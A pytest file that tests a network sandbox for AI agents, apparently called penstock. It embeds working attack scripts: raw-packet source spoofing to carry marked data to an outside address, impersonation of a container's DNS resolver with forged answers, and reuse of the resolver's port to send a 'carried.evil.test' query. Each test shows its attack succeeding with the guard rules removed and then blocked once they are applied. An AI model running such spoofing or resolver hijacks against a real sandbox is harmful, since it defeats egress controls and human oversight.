# SPDX-License-Identifier: Apache-2.0
"""Source addresses that are not the agent's.

Gateway: who may send raw packets puts an outside address in front, and what
penstock and its rules answer goes there, with what the agent wrote in it.
Shared: who sends from the resolver's address to a port that penstock asks
from makes connection tracking take the next question for a reply, and gets
it instead of the resolver.
"""
import os

import pytest

from cases import ASK
from lab import HERE, NAMES, POLICY, PYTHON, sh

OUTSIDE = "203.0.113.66"
MARK = b"CARRIED-OUT"

# A datagram or SYN with any source address, by one who has NET_RAW.
FORGE = r'''
import socket, struct, sys
def total(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff
def question(label):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
    return q + bytes([len(label)]) + label + b"\0" + struct.pack(">HH", 1, 1)
kind, src, dst, mark, me = sys.argv[1:]
me = int(me)
ends = socket.inet_aton(src) + socket.inet_aton(dst)
if kind == "syn":
    number, body = 6, struct.pack(">HHIIBBHHH", me, 443, 1, 0, 80, 2, 8192,
                                  0, 0)
else:
    data = question(mark.encode()) if kind == "dns" else mark.encode() * 9
    port = 53 if kind == "dns" else 9999
    number, body = 17, struct.pack(">HHHH", me, port, 8 + len(data),
                                   0) + data
check = total(ends + struct.pack(">HH", number, len(body)) + body)
at = 16 if number == 6 else 6
body = body[:at] + struct.pack(">H", check) + body[at + 2:]
head = struct.pack(">BBHHHBBH", 69, 0, 20 + len(body), 7, 0, 64, number, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.sendto(head + ends + body, (dst, 0))
'''

# What comes in at the world's side for that address.
TAP = r'''
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x800))
s.bind((sys.argv[1], 0))
s.settimeout(.2)
print("ready", flush=True)
want, end = socket.inet_aton(sys.argv[2]), time.time() + 1.5
while time.time() < end:
    try:
        d, at = s.recvfrom(65536)
    except TimeoutError:
        continue
    if at[2] != socket.PACKET_OUTGOING and d[30:34] == want:
        print(d[14:].hex(), flush=True)
'''
RAW = ("setpriv", "--bounding-set=-all,+net_raw", "--inh-caps=-all,+net_raw",
       "--")


def arrives(lab, kind, to, me):
    """What an agent with NET_RAW makes arrive at an outside address: what
    carries its words, or is for its port."""
    tap = lab.start("world", PYTHON, "-c", TAP, "gw0", OUTSIDE, stdout=-1)
    try:
        assert tap.stdout.readline() == b"ready\n"
        mark = MARK + b"%d" % me
        r = lab.run("agent", *RAW, PYTHON, "-c", FORGE, kind, OUTSIDE, to,
                    mark.decode(), str(me))
        assert r.status == 0, r
        heard = [bytes.fromhex(x.decode())
                 for x in tap.stdout.read().split()]
        return [p for p in heard if mark in p or
                p[22:24] == me.to_bytes(2, "big")]
    finally:
        lab.stop(tap)


def test_forged_sources_are_answered_by_nobody(lab):
    """Datagrams, questions and SYNs of an address that lives elsewhere."""
    attempts = [("udp", "203.0.113.10"), ("dns", "203.0.113.53"),
                ("syn", "203.0.113.11")]
    lab.up("gateway")
    try:
        lab.without("pre/forged")
        for me, (kind, to) in enumerate(attempts, 5550):
            out = arrives(lab, kind, to, me)
            assert out, kind            # it leaks without the rule
            assert kind == "syn" or any(MARK in p for p in out), out
        assert lab.verb("rules", "apply", "-c", lab.conf).status == 0
        for me, (kind, to) in enumerate(attempts, 5560):
            assert arrives(lab, kind, to, me) == [], kind
        out = lab.run("gateway", "nft", "list", "chain", "inet", "penstock",
                      "pre").out
        assert "packets 3" in next(x for x in out.splitlines()
                                   if "pre/forged" in x), out
        r = lab.agent("curl", "-sS", "-m", "8", "http://allowed.test/")
        assert "reached allowed.test" in r.out, r
    finally:
        lab.down()


# As in a container: port 53 of 127.0.0.11 is another one in truth.
ENGINE = """table ip engine {
	chain out {
		type nat hook output priority -100
		ip daddr 127.0.0.11 udp dport 53 dnat to 127.0.0.11:44381
		ip daddr 127.0.0.11 tcp dport 53 dnat to 127.0.0.11:44381
	}
	chain post {
		type nat hook postrouting priority 100
		ip saddr 127.0.0.11 udp sport 44381 snat to :53
		ip saddr 127.0.0.11 tcp sport 44381 snat to :53
	}
}
"""

# Sends from there to every port that the resolver may ask from, and answers
# what it is asked.
POSE = r'''
import socket, struct, sys
first, last = map(int, sys.argv[1:3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.11", 53))
refused = 0
for port in range(first, last + 1):
    for _ in range(3):          # an error of the one before comes first
        try:
            s.sendto(b"x", ("127.0.0.1", port))
            break
        except ConnectionRefusedError:
            pass
        except OSError:
            refused += 1
            break
print("refused" if refused else "sent", flush=True)
s.settimeout(5)
while True:
    try:
        d, peer = s.recvfrom(2000)
    except ConnectionRefusedError:
        continue
    except OSError:
        break
    if len(d) < 17:
        continue
    print("asked", flush=True)
    at = 12
    while d[at]:
        at += 1 + d[at]
    q, a = d[12:at + 5], d[at + 2] == 1
    r = d[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, a, 0, 0) + q
    if a:
        r += b"\xc0\x0c\0\1\0\1" + struct.pack(">IH", 60, 4) + \
            socket.inet_aton(sys.argv[3])
    s.sendto(r, peer)
'''


def pose_as_resolver(lab, name, ports):
    """The agent's words, and what a question for the name is told.  Ports are
    others each time: tracking remembers those of before."""
    sh("ip", "netns", "exec", lab.ns("shared"), "sysctl", "-qw",
       "net.ipv4.ip_local_port_range=%d %d" % (ports, ports + 999))
    pose = lab.start("shared", *lab.AS_AGENT, PYTHON, "-c", POSE, str(ports),
                     str(ports + 999), OUTSIDE, stdout=-1)
    try:
        said = pose.stdout.readline().decode()
        r = lab.python(ASK, "203.0.113.53", name, "1", "udp")
        return said + pose.stdout.read().decode(), r
    finally:
        lab.stop(pose)


# Asks from the very port that penstock has just asked from.
REUSE = r'''
import socket, struct, sys, time
def question(name):
    q = struct.pack(">HHHHHH", 77, 0x100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 1, 1)
def ports():
    to = "%08X:0035" % struct.unpack("<I", socket.inet_aton("127.0.0.11"))[0]
    rows = [x.split() for x in open("/proc/net/udp").read().splitlines()[1:]]
    return {int(r[1][9:], 16) for r in rows if r[2] == to}
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.1", 15053))
s.settimeout(4)
s.send(question(sys.argv[1]))
seen, end = set(), time.time() + 2
while not seen and time.time() < end:
    seen = ports()
s.recv(1000)
while ports() and time.time() < end:
    time.sleep(.02)
for port in seen:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.bind(("127.0.0.1", port))
        s.connect(("127.0.0.11", 53))
        s.send(question("carried.evil.test"))
        print("got", len(s.recv(1000)))
    except OSError as e:
        print("error", type(e).__name__)
'''


@pytest.fixture
def container(lab):
    """Ports below 1024 are everybody's, and the engine's resolver is there."""
    lab.unguarded("shared")
    ns = ("ip", "netns", "exec", lab.ns("shared"))
    sh(*ns, "sysctl", "-qw", "net.ipv4.ip_unprivileged_port_start=0")
    sh(*ns, "nft", "-f", "-", input=ENGINE)
    lab.names({**NAMES, **{"slow%d.test" % i: {"A": ["203.0.113.10"],
                                               "delay": .4}
                           for i in range(2)}})
    engine = lab.start("shared", PYTHON, os.path.join(HERE, "dnsserver.py"),
                       "127.0.0.11", "44381", os.path.join(lab.dir, "zone"),
                       os.path.join(lab.dir, "engine-asked"), stdout=-1)
    assert engine.stdout.readline() == b"ready\n"
    lab.up("shared", POLICY + "".join(
        "    - {verdict: allow, hostname: slow%d.test}\n" % i
        for i in range(2)), extra="dns: {zones: [{suffix: test, "
        "resolvers: [127.0.0.11]}]}\n")
    yield lab
    lab.down()
    lab.stop(engine)
    lab.names(NAMES)
    sh(*ns, "nft", "delete", "table", "ip", "engine")
    sh(*ns, "sysctl", "-qw", "net.ipv4.ip_unprivileged_port_start=1024",
       "net.ipv4.ip_local_port_range=32768 60999")


def test_an_agent_does_not_become_the_resolver(container):
    lab = container
    guards = ("flt/as-docker-dns", "flt/as-resolver", "post/question")
    r = lab.python(ASK, "203.0.113.53", "allowed.test", "1", "udp")
    assert "address 203.0.113.10" in r.out, r
    lab.without(*guards)
    said, r = pose_as_resolver(lab, "other.test", 32000)
    assert "asked" in said and "address " + OUTSIDE in r.out, (said, r)
    # each guard alone is enough
    for guard, name, ports in zip(guards, ("outer.test", "git.test",
                                           "pkg.test"),
                                  (34000, 36000, 38000)):
        assert lab.verb("rules", "apply", "-c", lab.conf).status == 0
        lab.without(*(g for g in guards if g != guard))
        said, r = pose_as_resolver(lab, name, ports)
        assert "asked" not in said and OUTSIDE not in r.out, (guard, said, r)
        assert ("refused" in said) == guard.startswith("flt/"), said


def test_an_agent_does_not_ask_over_the_resolvers_port(container):
    lab = container
    lab.without("flt/docker-dns")
    r = lab.python(REUSE, "slow0.test")
    assert "got" in r.out, r
    assert lab.verb("rules", "apply", "-c", lab.conf).status == 0
    r = lab.python(REUSE, "slow1.test")
    assert "got" not in r.out and "error" in r.out, r


# What the engine does with names that it does not know.
FORWARD = """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.11", 44381))
print("ready", flush=True)
while True:
    q, peer = s.recvfrom(2000)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as up:
        up.settimeout(1)
        up.connect(("203.0.113.53", 53))
        up.send(q)
        try:
            s.sendto(up.recv(2000), peer)
        except OSError:
            pass
"""


def test_w15_the_engines_resolver_is_none_for_all_names(lab):
    """Its own questions are caught as anybody's, and come back."""
    ask = (ASK, "127.0.0.11", "allowed.test", "1", "udp")
    resolv = "/etc/netns/%s/resolv.conf" % lab.ns("shared")
    ns = ("ip", "netns", "exec", lab.ns("shared"))
    lab.unguarded("shared")
    sh(*ns, "nft", "-f", "-", input=ENGINE)
    engine = lab.start("shared", PYTHON, "-c", FORWARD, stdout=-1)
    with open(resolv) as f:
        before = f.read()
    try:
        assert engine.stdout.readline() == b"ready\n"
        assert "address 203.0.113.10" in lab.python(*ask).out
        lab.up("shared", extra="dns: {zones: [{suffix: test, "
               "resolvers: [127.0.0.11]}]}\n")
        r = lab.python(*ask)
        assert "address" not in r.out, r
        with open(resolv, "w") as f:
            f.write("nameserver 127.0.0.11\noptions ndots:0\n")
        for said in ("system", "127.0.0.11"):
            lab.config("shared", POLICY.replace("[203.0.113.53]",
                                                "[%s]" % said))
            r = lab.verb("check", lab.conf)
            assert r.status != 0 and "127.0.0.11:53 asks others" in r.text, r
    finally:
        lab.down()
        lab.stop(engine)
        with open(resolv, "w") as f:
            f.write(before)
        sh(*ns, "nft", "delete", "table", "ip", "engine")
